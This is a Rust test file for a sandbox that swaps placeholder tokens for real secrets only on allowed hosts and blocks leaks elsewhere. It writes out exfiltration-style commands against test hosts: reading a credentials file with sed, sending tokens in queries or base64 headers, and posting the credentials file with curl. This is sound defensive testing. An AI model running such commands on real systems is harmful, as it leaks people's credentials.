//! Secrets on their way out of a whole bottle, and a placeholder that works at home.

use crate::harness::{HELLO, Origin, Room};

const TOKEN: &str = "tok-5b9e2f07c1d84ha6";

/// Asks for a URL and prints the status alone. The arguments are curl's.
const STATUS: &str = "curl -s -o /dev/null -w '%{http_code}'";

/// Reads the planted value.
const CANARY: &str = "sed -n 's/^access_token = //p' /.bottle/run/credentials";

pub(crate) fn what_is_planted_does_not_leave_and_a_placeholder_works_at_home(room: &Room) {
    let origin = Origin::tls();
    let variable = "[env]\nMY_TOKEN = { host = \"EXAMPLE_TOKEN\", placeholder = true, for = [\"api.test\"] }\n";
    let other = origin.route("other.test");
    room.agent_with_route(&origin, &format!("{other}{variable}"));
    let detached = room
        .run_call(&["--detach"], &["sleep", "600"])
        .env("EXAMPLE_TOKEN", TOKEN);
    let id = detached.run().ok().trim().to_owned();
    let sh = |script: &str| room.exec(&id, &["sh", "-c", script]).ok();

    let placeholder = sh("printf %s \"$MY_TOKEN\"");
    assert!(
        placeholder.len() >= 16 && placeholder != TOKEN,
        "{placeholder}"
    );
    let canary = sh(CANARY).trim().to_owned();
    assert_eq!(canary.len(), 40, "{canary}");

    // At home: the origin gets the real value, and the agent its answer.
    let url = origin.url("/hello");
    let header = "-H \"Authorization: Bearer $MY_TOKEN\"";
    assert_eq!(sh(&format!("curl -fsS {header} {url}")), HELLO);
    let seen = origin.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].header("authorization"), [format!("Bearer {TOKEN}")]);

    let elsewhere = url.replace("api.test", "other.test");
    let base64 = |value: &str| format!("\"$(printf %s '{value}' | base64)\"");
    for (what, arguments, reason) in [
        (
            "another host",
            format!("{header} {elsewhere}"),
            "placeholder",
        ),
        ("a query", format!("\"{url}?t=$MY_TOKEN\""), "placeholder"),
        ("the real value", format!("'{url}?t={TOKEN}'"), "secret"),
        (
            "its base64",
            format!("-H X-Note:{} {url}", base64(TOKEN)),
            "secret",
        ),
        ("the canary", format!("'{url}?t={canary}'"), "canary"),
        (
            "its base64",
            format!("-H X-Note:{} {url}", base64(&canary)),
            "canary",
        ),
    ] {
        assert_eq!(sh(&format!("{STATUS} {arguments}")), "403", "{what}");
        let log = room.bottle(&["audit", "--json", &id]).run().ok();
        let last = log.lines().last().unwrap_or_default();
        assert!(
            last.contains(&format!("\"reason\":\"{reason}\"")),
            "{what}: {last}"
        );
    }
    let planted = [canary.as_str(), placeholder.as_str()];
    what_arrives_is_clean(&origin, &sh, planted);
    let log = room.bottle(&["audit", "--json", &id]).run().ok();
    assert!(log.contains("\"swapped\":[\"MY_TOKEN\"]"), "{log}");
    assert!(log.contains("\"place\":\"body\""), "{log}");
    for value in [TOKEN, &canary, &placeholder] {
        assert!(!log.contains(value), "{log}");
    }
    room.stop(&id);
}

/// Sends a body with the canary, and something harmless; then looks at all that the origin got.
fn what_arrives_is_clean(origin: &Origin, sh: &dyn Fn(&str) -> String, planted: [&str; 2]) {
    let url = origin.url("/hello");
    // A body is found as it streams.
    let body = format!("curl -s --data-binary @/.bottle/run/credentials {url}; true");
    assert!(!sh(&body).contains(HELLO));

    // What looks alike and is none goes through, and nothing else went.
    assert_eq!(sh(&format!("{STATUS} '{url}?t=harmless'")), "200");
    for request in origin.requests() {
        let shown = format!("{request:?}");
        assert!(
            !planted.iter().any(|value| shown.contains(value)),
            "{shown}"
        );
        let holds = shown.contains(TOKEN);
        assert!(
            !holds || request.header("authorization").len() == 1,
            "{shown}"
        );
    }
}
